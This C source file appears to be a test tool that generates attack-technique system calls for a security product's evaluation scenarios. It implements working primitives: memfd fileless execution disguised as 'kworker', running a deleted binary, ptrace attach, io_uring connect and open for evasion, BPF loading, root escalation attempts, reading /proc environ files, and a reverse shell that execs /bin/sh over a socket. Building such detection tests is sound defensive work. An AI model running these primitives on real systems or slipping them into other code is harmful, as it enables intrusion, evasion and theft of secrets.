/*
 * exr-attack: the system calls of attack techniques that busybox cannot
 * make, for the eval corpus (eval/scenarios) and tests. Static, so it runs
 * in a busybox container. Each subcommand does the one thing its name says
 * and reports the result; none reaches beyond the addresses it is given.
 *
 *   exr-attack memfd-exec [ARG...]     copy /proc/self/exe into a memfd and
 *                                      fexecve it (fileless execution); the
 *                                      copy runs `exr-attack hello ARG...`
 *   exr-attack fd-exec-deleted PATH    open PATH, unlink it, run it via
 *                                      /proc/self/fd/N (a deleted binary)
 *   exr-attack ptrace PID              PTRACE_ATTACH to PID, then detach
 *   exr-attack traceme                 PTRACE_TRACEME (anti-debugging)
 *   exr-attack vm-write PID ADDR       process_vm_writev of 0 bytes... to PID
 *   exr-attack packet                  create an AF_PACKET socket
 *   exr-attack raw                     create a SOCK_RAW (IPPROTO_TCP) socket
 *   exr-attack uring-connect HOST PORT connect through io_uring (IPv4)
 *   exr-attack uring-open PATH         open PATH for reading through io_uring
 *   exr-attack bpf-load                load a trivial socket-filter program
 *   exr-attack setuid0 [CMD...]        setresuid(0,0,0) then exec CMD (or id)
 *   exr-attack capset                  raise every permitted capability
 *   exr-attack dup-shell HOST PORT     connect, dup2 the socket onto 0, 1, 2,
 *                                      exec /bin/sh -i (a reverse shell)
 *   exr-attack read PATH               read PATH (e.g. /proc/PID/environ)
 *   exr-attack hello [ARG...]          print "hello" and the arguments
 * Exit: 0 done, 1 the call failed (errno printed), 2 usage.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static int fail(const char *what)
{
	fprintf(stderr, "exr-attack: %s: %s\n", what, strerror(errno));
	return 1;
}

static int do_memfd_exec(int argc, char **argv)
{
	int src = open("/proc/self/exe", O_RDONLY), mfd = (int)syscall(SYS_memfd_create, "kworker", 0);
	char buf[65536], *args[16] = {"kworker", "hello"};
	ssize_t n;
	int i;

	if (src < 0 || mfd < 0)
		return fail("memfd_create");
	while ((n = read(src, buf, sizeof(buf))) > 0)
		if (write(mfd, buf, (size_t)n) != n)
			return fail("write memfd");
	for (i = 0; i < argc && i < 13; i++)
		args[2 + i] = argv[i];
	args[2 + i] = NULL;
	extern char **environ;
	syscall(SYS_execveat, mfd, "", args, environ, AT_EMPTY_PATH);
	return fail("execveat memfd");
}

static int do_fd_exec_deleted(const char *path)
{
	int fd = open(path, O_RDONLY);
	char p[64];

	if (fd < 0)
		return fail("open");
	if (unlink(path))
		return fail("unlink");
	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
	execl(p, "update", "hello", "deleted", (char *)NULL);
	return fail("exec deleted");
}

static int do_ptrace(pid_t pid)
{
	int st;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0))
		return fail("PTRACE_ATTACH");
	waitpid(pid, &st, __WALL);
	printf("attached to %d\n", (int)pid);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return 0;
}

static int do_vm_write(pid_t pid, unsigned long addr)
{
	char b = 0;
	struct iovec l = {&b, 1}, r = {(void *)addr, 1};

	if (syscall(SYS_process_vm_writev, pid, &l, 1, &r, 1, 0) < 0)
		return fail("process_vm_writev");
	return 0;
}

static int do_uring(int op, const char *a, int port)
{
	struct io_uring_params p;
	struct io_uring_sqe *sqes;
	unsigned *sq_tail, *sq_array, *cq_head, *cq_tail;
	struct io_uring_cqe *cqes;
	struct sockaddr_in sin;
	int fd = -1, ring;
	void *sq, *cq;

	memset(&p, 0, sizeof(p));
	ring = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (ring < 0)
		return fail("io_uring_setup");
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE, MAP_SHARED,
		  ring, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE,
		  MAP_SHARED, ring, IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		return fail("mmap ring");
	sq_tail = (unsigned *)((char *)sq + p.sq_off.tail);
	sq_array = (unsigned *)((char *)sq + p.sq_off.array);
	cq_head = (unsigned *)((char *)cq + p.cq_off.head);
	cq_tail = (unsigned *)((char *)cq + p.cq_off.tail);
	cqes = (struct io_uring_cqe *)((char *)cq + p.cq_off.cqes);
	memset(&sqes[0], 0, sizeof(sqes[0]));
	if (op == IORING_OP_CONNECT) {
		fd = socket(AF_INET, SOCK_STREAM, 0);
		memset(&sin, 0, sizeof(sin));
		sin.sin_family = AF_INET;
		sin.sin_port = htons((uint16_t)port);
		if (fd < 0 || inet_pton(AF_INET, a, &sin.sin_addr) != 1)
			return fail("socket/address");
		sqes[0].opcode = IORING_OP_CONNECT;
		sqes[0].fd = fd;
		sqes[0].addr = (uintptr_t)&sin;
		sqes[0].off = sizeof(sin);
	} else {
		sqes[0].opcode = IORING_OP_OPENAT;
		sqes[0].fd = AT_FDCWD;
		sqes[0].addr = (uintptr_t)a;
		sqes[0].open_flags = O_RDONLY;
	}
	sq_array[0] = 0;
	__atomic_store_n(sq_tail, *sq_tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return fail("io_uring_enter");
	if (__atomic_load_n(cq_tail, __ATOMIC_ACQUIRE) == *cq_head)
		return fail("no completion");
	printf("io_uring %s %s: result %d\n", op == IORING_OP_CONNECT ? "connect" : "openat", a,
	       cqes[*cq_head & (p.cq_entries - 1)].res);
	if (op == IORING_OP_CONNECT && cqes[*cq_head & (p.cq_entries - 1)].res == 0) {
		char buf[256];
		ssize_t n = read(fd, buf, sizeof(buf));
		(void)n;
	}
	return 0;
}

static int do_bpf_load(void)
{
	struct bpf_insn insns[] = {
		{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0},
		{.code = BPF_JMP | BPF_EXIT},
	};
	union bpf_attr attr;
	char license[] = "GPL";
	int fd;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	attr.insns = (uintptr_t)insns;
	attr.insn_cnt = 2;
	attr.license = (uintptr_t)license;
	memcpy(attr.prog_name, "exr_hide", 9);
	fd = (int)syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
	if (fd < 0)
		return fail("bpf(BPF_PROG_LOAD)");
	printf("loaded bpf program fd %d\n", fd);
	return 0;
}

static int do_capset(void)
{
	struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct d[2];

	if (syscall(SYS_capget, &h, d))
		return fail("capget");
	d[0].effective = d[0].permitted;
	d[1].effective = d[1].permitted;
	d[0].inheritable = d[0].permitted;
	d[1].inheritable = d[1].permitted;
	if (syscall(SYS_capset, &h, d))
		return fail("capset");
	printf("capabilities raised\n");
	return 0;
}

static int do_dup_shell(const char *host, int port)
{
	struct sockaddr_in sin;
	int s = socket(AF_INET, SOCK_STREAM, 0);

	memset(&sin, 0, sizeof(sin));
	sin.sin_family = AF_INET;
	sin.sin_port = htons((uint16_t)port);
	if (s < 0 || inet_pton(AF_INET, host, &sin.sin_addr) != 1)
		return fail("socket/address");
	if (connect(s, (struct sockaddr *)&sin, sizeof(sin)))
		return fail("connect");
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execl("/bin/sh", "sh", "-i", (char *)NULL);
	return fail("exec /bin/sh");
}

static int do_read(const char *path)
{
	char buf[4096];
	int fd = open(path, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return fail(path);
	n = read(fd, buf, sizeof(buf));
	printf("read %zd bytes of %s\n", n, path);
	return n < 0;
}

int main(int argc, char **argv)
{
	const char *c = argc > 1 ? argv[1] : "";

	if (!strcmp(c, "hello")) {
		printf("hello");
		for (int i = 2; i < argc; i++)
			printf(" %s", argv[i]);
		printf("\n");
		return 0;
	}
	if (!strcmp(c, "memfd-exec"))
		return do_memfd_exec(argc - 2, argv + 2);
	if (!strcmp(c, "fd-exec-deleted") && argc == 3)
		return do_fd_exec_deleted(argv[2]);
	if (!strcmp(c, "ptrace") && argc == 3)
		return do_ptrace(atoi(argv[2]));
	if (!strcmp(c, "traceme"))
		return ptrace(PTRACE_TRACEME, 0, 0, 0) ? fail("PTRACE_TRACEME") : 0;
	if (!strcmp(c, "vm-write") && argc == 4)
		return do_vm_write(atoi(argv[2]), strtoul(argv[3], NULL, 0));
	if (!strcmp(c, "packet"))
		return socket(AF_PACKET, SOCK_RAW, htons(3)) < 0 ? fail("socket(AF_PACKET)") : (printf("packet socket\n"), 0);
	if (!strcmp(c, "raw"))
		return socket(AF_INET, SOCK_RAW, IPPROTO_TCP) < 0 ? fail("socket(SOCK_RAW)") : (printf("raw socket\n"), 0);
	if (!strcmp(c, "uring-connect") && argc == 4)
		return do_uring(IORING_OP_CONNECT, argv[2], atoi(argv[3]));
	if (!strcmp(c, "uring-open") && argc == 3)
		return do_uring(IORING_OP_OPENAT, argv[2], 0);
	if (!strcmp(c, "bpf-load"))
		return do_bpf_load();
	if (!strcmp(c, "setuid0")) {
		if (setresuid(0, 0, 0))
			return fail("setresuid");
		if (argc > 2)
			execvp(argv[2], argv + 2);
		else
			execl("/bin/id", "id", (char *)NULL);
		return fail("exec");
	}
	if (!strcmp(c, "capset"))
		return do_capset();
	if (!strcmp(c, "dup-shell") && argc == 4)
		return do_dup_shell(argv[2], atoi(argv[3]));
	if (!strcmp(c, "read") && argc == 3)
		return do_read(argv[2]);
	fprintf(stderr, "usage: see the comment at the top of tests/tools/exr-attack.c\n");
	return 2;
}
